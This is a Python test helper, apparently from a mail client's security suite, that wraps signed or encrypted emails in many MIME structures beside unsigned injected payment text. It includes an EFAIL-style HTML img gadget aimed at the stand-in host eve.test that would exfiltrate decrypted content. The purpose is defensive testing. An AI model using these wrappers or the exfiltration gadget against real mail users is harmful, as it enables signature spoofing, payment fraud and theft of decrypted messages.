"""A mail made the part of another one, in each way there is, with text beside it that nobody signed."""

from __future__ import annotations

import base64
import quopri
import re
from collections.abc import Callable

from tests.mail.incoming.attacks.building import (
    attached,
    begin,
    encrypted,
    html,
    mail,
    multipart,
    signature,
    signed,
    signed_by,
    text,
)
from tests.mail.incoming.attacks.inserting import MARK
from tests.mail.incoming.attacks.people import ALICE, EVE

BESIDE = text(f"{MARK}: pay to another account.")
OPEN = html(f'<img src="http://eve.test/{MARK}?')
CLOSE = html(f'{MARK}">')
_CONTENT = re.compile(rb"(?im)^(?:content-[a-z-]+):(?:[^\n]|\n[ \t])*\n")


def entity_of(raw: bytes) -> bytes:
    """The mail without its fields but those of its content."""
    header, _, body = raw.partition(b"\r\n\r\n")
    fields = b"".join(found[0] for found in _CONTENT.finditer(header + b"\r\n"))
    return fields + b"\r\n" + body


def from_line(raw: bytes) -> bytes:
    """The From of the mail, so that its signatures stay those of the person shown."""
    found = re.search(rb"(?im)^from:(?:[^\n]|\n[ \t])*\n", raw.partition(b"\r\n\r\n")[0] + b"\r\n")
    return found[0] if found else f"From: {ALICE}\r\n".encode()


def _coded(raw: bytes, encoding: str) -> bytes:
    made = base64.encodebytes(raw) if encoding == "base64" else quopri.encodestring(raw)
    return made.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def _around(kind: str) -> Callable[[bytes], bytes]:
    return lambda raw: mail(multipart(kind, [OPEN, entity_of(raw), CLOSE]), sender=from_line(raw))


def _attached(raw: bytes) -> bytes:
    return mail(multipart("mixed", [OPEN, attached(raw), CLOSE]), sender=from_line(raw))


def _attached_in_code(encoding: str) -> Callable[[bytes], bytes]:
    extra = f"Content-Transfer-Encoding: {encoding}\r\n".encode()
    return lambda raw: mail(
        multipart("mixed", [OPEN, attached(_coded(raw, encoding), extra), CLOSE]),
        sender=from_line(raw),
    )


def _below_alternatives(raw: bytes) -> bytes:
    inner = multipart("related", [OPEN, multipart("mixed", [entity_of(raw), CLOSE])])
    return mail(multipart("alternative", [BESIDE, inner]), sender=from_line(raw))


def _alone(raw: bytes) -> bytes:
    return mail(
        multipart("mixed", [multipart("mixed", [entity_of(raw)]), BESIDE]), sender=from_line(raw)
    )


def _below_a_damaged_signature(raw: bytes) -> bytes:
    made = signature(b"another text", "alice")
    return mail(
        signed_by(multipart("mixed", [BESIDE, entity_of(raw)]), made), sender=from_line(raw)
    )


def _as_a_third_part_of_a_signed_one(raw: bytes) -> bytes:
    good = text("GENUINE words of Alice.")
    return mail(
        signed_by(good, signature(good, "alice"), more=[BESIDE, entity_of(raw)]),
        sender=from_line(raw),
    )


def _with_two_types(raw: bytes) -> bytes:
    whole = multipart("mixed", [BESIDE, entity_of(raw)])
    return mail(whole, sender=from_line(raw), extra=_CONTENT.search(entity_of(raw))[0])  # type: ignore[index]


def _encrypted_alone(raw: bytes) -> bytes:
    """Text from eve's own encryption, which is no secret of anybody, beside the mail."""
    return mail(
        multipart("mixed", [encrypted(text("from eve")), OPEN, entity_of(raw), CLOSE]), sender=EVE
    )


WRAPPERS: dict[str, Callable[[bytes], bytes]] = {
    **{kind: _around(kind) for kind in ("mixed", "related", "alternative", "report", "digest")},
    **{kind: _around(kind) for kind in ("parallel", "encrypted", "signed", "form-data", "x-odd")},
    "attached": _attached,
    "attached in base64": _attached_in_code("base64"),
    "attached in quoted-printable": _attached_in_code("quoted-printable"),
    "below alternatives": _below_alternatives,
    "alone in a mixed beside text": _alone,
    "below a damaged signature": _below_a_damaged_signature,
    "as a third part of a signed one": _as_a_third_part_of_a_signed_one,
    "with two types": _with_two_types,
    "beside something encrypted": _encrypted_alone,
}


def wrapped(raw: bytes, how: str) -> bytes:
    """The mail as a part of another, the same octets in every run."""
    begin(how)
    return WRAPPERS[how](raw)


def wrapped_by_eve(raw: bytes, how: str) -> bytes:
    """The mail within what eve signs, or encrypts and signs, as herself."""
    begin(how)
    inner = multipart("mixed", [BESIDE, entity_of(raw)])
    return mail(signed(inner, "eve") if how == "signed" else encrypted(inner, "eve"), sender=EVE)
